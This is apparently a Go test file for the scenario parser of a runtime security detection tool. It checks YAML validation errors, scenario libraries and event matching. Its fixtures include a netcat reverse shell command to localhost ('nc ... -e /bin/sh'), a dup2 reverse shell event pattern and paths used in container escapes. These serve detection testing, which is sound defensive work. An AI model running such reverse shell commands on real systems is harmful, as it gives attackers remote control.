package scenario

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/vigilsec/vigil/trace"
)

const good = `name: demo
kind: attack
description: a demo attack
task: {cluster: c, family: f, revision: 1}
containers:
  - name: app
    command: [vsim, web]
attack:
  id: demo
  container: app
  findings: [Execution:Runtime/ReverseShell]
  steps:
    - run: nc 127.0.0.1 4444 -e /bin/sh
  expect:
    - kind: connect
      dst_port: 4444
`

func TestParseGood(t *testing.T) {
	s, err := Parse("demo.yaml", []byte(good))
	if err != nil {
		t.Fatal(err)
	}
	if s.Attack.Steps[0].Run.String() != "nc 127.0.0.1 4444 -e /bin/sh" || s.Attack.Steps[0].Run[0] != "/bin/sh" {
		t.Errorf("step %q", s.Attack.Steps[0].Run)
	}
	if s.Attack.Expect[0].Line != 15 || s.Containers[0].Line != 6 {
		t.Errorf("lines: expect %d container %d", s.Attack.Expect[0].Line, s.Containers[0].Line)
	}
}

// Every mistake names the file and the line it is on.
func TestParseErrors(t *testing.T) {
	for _, c := range []struct {
		name, old, new, want string
	}{
		{"typo key", "    command: [vsim, web]", "    comand: [vsim, web]", `demo.yaml:7: unknown key "comand" in containers[0]`},
		{"typo deep", "      dst_port: 4444", "      dst_prt: 4444", `demo.yaml:16: unknown key "dst_prt" in attack.expect[0]`},
		{"bad yaml", "kind: attack", "kind: [attack", "demo.yaml:"},
		{"bad kind", "kind: attack", "kind: attak", `demo.yaml:1: kind "attak": want benign, attack or anomaly`},
		{"finding", "[Execution:Runtime/ReverseShell]", "[Execution:Runtime/ReverseShel]", `demo.yaml:9: unknown finding type "Execution:Runtime/ReverseShel"`},
		{"event kind", "    - kind: connect", "    - kind: conect", `demo.yaml:15: expect kind "conect" is not an event kind`},
		{"duration", "  steps:\n", "  steps:\n    - run: id\n      timeout: soon\n", `demo.yaml:14: bad duration "soon"`},
		{"no expect", "  expect:\n    - kind: connect\n      dst_port: 4444\n", "", "demo.yaml:9: attack has no expect"},
		{"cap", "    command: [vsim, web]", "    command: [vsim, web]\n    cap_add: [SYS_ADMIN]", `demo.yaml:6: cap_add "SYS_ADMIN" is not allowed`},
		{"empty command", "    command: [vsim, web]", "    command: []", "demo.yaml:7: empty command"},
		{"name", "name: demo", "name: Demo", `demo.yaml:1: name "Demo"`},
		{"anomaly findings", "kind: attack", "kind: anomaly", "an anomaly scenario raises no signature finding"},
		{"seccomp", "  container: app", "  container: app\n  seccomp: disabled", `seccomp "disabled"`},
		{"stdio kind", "      dst_port: 4444", "      dst_port: 4444\n      stdio: [inet]", `demo.yaml:15: stdio is known only for exec events, not "connect"`},
		{"stdio value", "    - kind: connect\n      dst_port: 4444", "    - kind: exec\n      stdio: [tcp]", `demo.yaml:15: stdio "tcp": want one of [any inet socket pipe other]`},
		{"pause name", "  - name: app", "  - name: pause", `demo.yaml:6: container name "pause" is reserved for the task's pause container`},
		{"remote name", "  - name: app", "  - name: sim-remote", `demo.yaml:6: container name "sim-remote" is reserved for the simulated remote hosts' container`},
		{"stdio fds", "    - kind: connect\n      dst_port: 4444", "    - kind: exec\n      stdio: [any, any, any, any]", `demo.yaml:15: stdio lists 4 fds`},
	} {
		src := strings.Replace(good, c.old, c.new, 1)
		if src == good && c.old != c.new {
			t.Fatalf("%s: replacement did not apply", c.name)
		}
		_, err := Parse("demo.yaml", []byte(src))
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: error %v, want %q", c.name, err, c.want)
		}
	}
	if _, err := Parse("demo.yaml", nil); err == nil || err.Error() != "demo.yaml: empty scenario file" {
		t.Errorf("empty: %v", err)
	}
	if _, err := Parse("other.yaml", []byte(good)); err == nil || !strings.Contains(err.Error(), "does not match the file name") {
		t.Errorf("file name: %v", err)
	}
}

const base = `name: base
kind: benign
description: a workload
task: {cluster: c, family: f, revision: 1}
containers:
  - name: app
    command: [vsim, web]
`

func TestLibraryBases(t *testing.T) {
	atk := strings.Replace(good, "task: {cluster: c, family: f, revision: 1}\ncontainers:\n  - name: app\n    command: [vsim, web]\n", "base: base\n", 1)
	lib, err := LoadFS(fstest.MapFS{"s/base.yaml": {Data: []byte(base)}, "s/demo.yaml": {Data: []byte(atk)}}, "s")
	if err != nil {
		t.Fatal(err)
	}
	r, err := lib.Resolve("demo")
	if err != nil {
		t.Fatal(err)
	}
	if r.Task.Family != "f" || len(r.Containers) != 1 || r.Attack.Container != "app" {
		t.Errorf("resolved %+v", r)
	}
	bad := strings.Replace(atk, "  container: app", "  container: ghost", 1)
	_, err = LoadFS(fstest.MapFS{"s/base.yaml": {Data: []byte(base)}, "s/demo.yaml": {Data: []byte(bad)}}, "s")
	if err == nil || !strings.Contains(err.Error(), `s/demo.yaml:6: attack runs in unknown container "ghost"`) {
		t.Errorf("unknown container: %v", err)
	}
	_, err = LoadFS(fstest.MapFS{"s/demo.yaml": {Data: []byte(atk)}}, "s")
	if err == nil || !strings.Contains(err.Error(), `base "base": no such scenario`) {
		t.Errorf("missing base: %v", err)
	}
}

// Expectations may name the containers the runner adds; jobs and attacks
// run only in the scenario's own.
func TestLibraryAddedContainers(t *testing.T) {
	load := func(src string) error {
		_, err := LoadFS(fstest.MapFS{"s/demo.yaml": {Data: []byte(src)}}, "s")
		return err
	}
	expect := good + "expect:\n  - container: " + InfraContainer + "\n    kind: exec\n  - container: " + PauseContainer + "\n    kind: exec\n"
	if err := load(expect); err != nil {
		t.Errorf("expectations on the added containers: %v", err)
	}
	for _, name := range []string{PauseContainer, InfraContainer} {
		atk := strings.Replace(good, "  container: app", "  container: "+name, 1)
		if err := load(atk); err == nil || !strings.Contains(err.Error(), `s/demo.yaml:9: attack runs in "`+name+`": attacks run in the scenario's own containers`) {
			t.Errorf("attack in %s: %v", name, err)
		}
		job := good + "jobs:\n  - name: poll\n    container: " + name + "\n    every: 1s\n    run: [true]\n"
		if err := load(job); err == nil || !strings.Contains(err.Error(), `s/demo.yaml:18: job "poll" runs in "`+name+`"`) {
			t.Errorf("job in %s: %v", name, err)
		}
	}
}

func TestExpectMatches(t *testing.T) {
	e := &trace.Event{Kind: trace.KindExec, Comm: "nc", Argv: []string{"nc", "127.0.0.1", "4444", "-e", "/bin/sh"}, ExePath: "/bin/busybox", Ret: -1}
	for _, c := range []struct {
		x    Expect
		want bool
	}{
		{Expect{Kind: trace.KindExec}, true},
		{Expect{Kind: trace.KindOpen}, false},
		{Expect{Argv: "nc * -e /bin/sh"}, true},
		{Expect{Argv: "nc *4445*"}, false},
		{Expect{Exe: "*/busybox"}, true},
		{Expect{Comm: "n?"}, true},
		{Expect{Result: "failed"}, true},
		{Expect{Result: "ok"}, false},
	} {
		if got := c.x.Matches(e); got != c.want {
			t.Errorf("%s: %v, want %v", c.x.String(), got, c.want)
		}
	}
	// The dup2 reverse shell: fds 0 and 1 on a TCP socket, 2 on a pipe.
	sh := &trace.Event{Kind: trace.KindExec, Comm: "sh", Argv: []string{"sh", "-i"},
		Flags: trace.ExecStdinSocket | trace.ExecStdinInet | trace.ExecStdoutSocket | trace.ExecStdoutInet | trace.ExecStderrPipe}
	for _, c := range []struct {
		stdio []string
		want  bool
	}{
		{[]string{"inet", "inet", "pipe"}, true},
		{[]string{"socket", "socket"}, true},
		{[]string{"any", "any", "any"}, true},
		{nil, true},
		{[]string{"inet", "inet", "inet"}, false},
		{[]string{"pipe"}, false},
		{[]string{"other"}, false},
		{[]string{"any", "any", "other"}, false},
		{[]string{"any", "any", "socket"}, false},
	} {
		x := Expect{Kind: trace.KindExec, Stdio: c.stdio}
		if got := x.Matches(sh); got != c.want {
			t.Errorf("%s: %v, want %v", x.String(), got, c.want)
		}
	}
	if x := (Expect{Kind: trace.KindExec, Stdio: []string{"other", "other", "other"}}); !x.Matches(e) {
		t.Errorf("%s does not match an exec with no stdio bits", x.String())
	}
	for _, c := range []struct {
		p, s string
		want bool
	}{
		{"*/release_agent", "/sys/fs/cgroup/memory/release_agent", true},
		{"/proc/*/mem", "/proc/42/mem", true},
		{"/proc/*/mem", "/proc/42/maps", false},
		{"a*b*c", "axxbyyc", true},
		{"a*b*c", "axxbyy", false},
		{"", "anything", true},
	} {
		if got := globMatch(c.p, c.s); got != c.want {
			t.Errorf("globMatch(%q, %q) = %v", c.p, c.s, got)
		}
	}
}
